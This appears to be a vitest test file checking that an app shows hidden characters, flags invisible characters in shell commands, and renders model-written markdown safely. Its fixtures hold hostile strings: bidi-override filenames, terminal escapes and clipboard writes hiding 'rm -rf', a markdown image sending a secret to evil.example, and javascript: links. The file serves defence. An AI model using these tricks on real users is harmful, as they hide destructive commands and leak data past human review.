import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '@/lib/client/markdown';
import { namedCharacters, visibleText } from '@/lib/shared/visible-text';
import { readCommand } from '@/lib/shell/parts';
import { pagePolicy } from '@/security-headers';

const unseen = /[\p{Cf}\p{Zl}\p{Zp}]|(?![\t\n])\p{Cc}/u;

describe('what a person decides about', () => {
  it('hides no character, turns no text and steers no terminal', () => {
    const hostile = [
      'invoice\u202egnp.exe',
      'safe.txt\u200b\u200d\u2060',
      'a\u001b[2K\u001b[1Ank rm -rf',
      '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
      '\u001b]52;c;cm0gLXJm\u0007',
      'a\rrm x',
      '\u009b31mred',
      `ls ${'\u{e0072}\u{e006d}'}`,
      'a\u2028b',
    ];
    for (const text of hostile) {
      expect([text, unseen.test(visibleText(text)), unseen.test(namedCharacters(text))]).toEqual([text, false, false]);
      expect(visibleText(text)).toContain('⟦');
    }
    expect(visibleText(`ls${' '.repeat(500)}; rm -rf src`)).toBe('ls⟦500 blanks⟧; rm -rf src');
  });

  it('is a command that no allow rule fits, where one of its characters cannot be seen', () => {
    for (const sign of ['\u200b', '\u202e', '\u00ad', '\ufeff', '\u{e0001}']) expect([sign, readCommand(`ls ${sign}a`).invisible]).toEqual([sign, true]);
  });
});

describe('what a model writes', () => {
  it('is markdown that loads nothing, runs nothing and leads only to addresses of the web', () => {
    const hostile =
      '![x](https://evil.example/?secret) <img src="https://evil.example"> [a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) <iframe src=x> [d](JaVaScRiPt:x)';
    const found: string[] = [];
    const look = (value: unknown): void => {
      if (typeof value !== 'object' || value === null) return;
      if ('kind' in value) found.push(String(value.kind));
      if ('href' in value) found.push(String(value.href));
      for (const inner of Object.values(value)) look(inner);
    };
    look(parseMarkdown(hostile));
    expect([...new Set(found)].sort()).toEqual(['https://evil.example', 'https://evil.example/?secret', 'link', 'paragraph', 'text']);
    expect(pagePolicy('n', false)).toContain("img-src 'self' data: blob:;");
    expect(pagePolicy('n', false)).toContain("connect-src 'self' https://stackblitz.com;");
  });

  it('is read in a bounded time, whatever it repeats', () => {
    const size = 20_000;
    const units = ['`', '`a', '``a`', '**', '**a', '*a ', '_a ', '[', '[a](', '[a]', '|', '> ', '- ', '# ', ' ', 'https://', '\n- ', '1. ', '~~~\n', '| - |\n'];
    for (const unit of units)
      for (const text of [unit.repeat(size / unit.length), `# ${unit.repeat(size / unit.length)}x`, `a|b\n${unit.repeat(size / unit.length)}x`]) {
        const began = performance.now();
        parseMarkdown(text);
        expect([unit, performance.now() - began < 3_000]).toEqual([unit, true]);
      }
  });
});
